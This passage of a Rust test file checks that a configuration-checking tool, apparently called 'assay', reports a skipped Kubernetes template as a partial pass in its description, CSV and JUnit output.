    assert!(
        description.contains("Not judged: 1 repository document(s) skipped")
            && description.contains("`chart/templates/agent.yaml` (k8s)"),
        "{description}"
    );
}

/// Without the missing export the Kubernetes checks pass on the Deployment,
/// and the pass says what it did not cover: in the CSV's notes of their
/// controls, and in JUnit, where the `checks` suite names the template.
#[test]
fn a_partial_pass_says_so_in_csv_and_junit() {
    let run = |format: &str| {
        let args = [
            "check",
            "fixtures/repos/k8s-partly-templated",
            "--check",
            "k8s.*",
        ];
        let run = assay(&[&args[..], &["--format", format]].concat());
        assert_eq!(run.code, 0, "{}", run.stderr);
        run
    };
    let (header, rows) = parse_csv(&run("csv").stdout);
    let notes = header.iter().position(|h| h == "notes").unwrap();
    let noted: Vec<&Vec<String>> = rows
        .iter()
        .filter(|r| r[notes].contains("k8s.no-privileged: passed on what it judged"))
        .collect();
    assert!(!noted.is_empty(), "no control notes the check");
    assert!(noted.iter().all(|r| r[3] == "pass"));
    let run = run("junit");
    let Some(python) = junit_python() else {
        return;
    };
    let read = read_junit(&python, &run.stdout);
    let checks = &read["suites"][0];
    assert_eq!(checks["name"], "checks");
    assert!(
        checks["system_out"]
            .as_str()
            .unwrap()
            .contains("skipped k8s document chart/templates/agent.yaml"),
        "{checks:#}"
    );
    for case in checks["cases"].as_array().unwrap() {
        assert_eq!(case["result"], "pass");
        assert!(
            case["system_out"]
                .as_str()
                .unwrap()
                .starts_with("passed on what it judged: 1 document skipped"),
            "{case:#}"
        );
    }
}
